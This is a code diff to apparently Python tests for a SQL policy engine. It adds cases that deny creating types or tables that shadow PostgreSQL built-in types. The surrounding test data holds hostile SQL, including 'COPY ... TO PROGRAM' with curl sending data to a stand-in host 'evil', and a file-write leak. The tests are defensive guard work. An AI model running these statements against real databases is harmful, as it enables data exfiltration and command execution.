@@ -237,6 +237,12 @@ GUARDS = [
     ("COPY t TO PROGRAM 'curl -d @- evil'", "builtin: copy_program"),
     ("COPY t FROM PROGRAM 'id'", "builtin: copy_program"),
     ("COPY t TO '/tmp/leak'", "builtin: copy_file"),
+    (
+        "CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (f(VALUE))",
+        "builtin: shadows_builtin_type",
+    ),
+    ("CREATE TEMP TABLE int4 (a int)", "builtin: shadows_builtin_type"),
+    ("ALTER TYPE mood RENAME TO bool", "builtin: shadows_builtin_type"),
     ("SELECT 1 FRM t", "builtin: unparseable"),
 ]
 
@@ -247,6 +253,14 @@ def test_builtin_guards_deny_even_when_a_rule_allows_everything(sql: str, guard:
     decision = decide(policy, sql)
     assert (decision.action, decision.rule) == ("deny", guard)
     assert decision.reason and decision.statement
+
+
+def test_a_type_named_like_a_built_in_one_is_denied_even_where_create_is_allowed() -> None:
+    policy = Policy([rule("allow", "ddl", statement=["create", "alter"])])
+    decision = decide(policy, "CREATE TEMP TABLE text (a int)")
+    assert (decision.action, decision.rule) == ("deny", "builtin: shadows_builtin_type")
+    assert decision.reason.startswith("CREATE names a type like a built-in type")
+    assert decide(policy, "CREATE TEMP TABLE notes (a text)").action == "allow"
 
 
 def test_fastpath_function_call_is_denied() -> None:
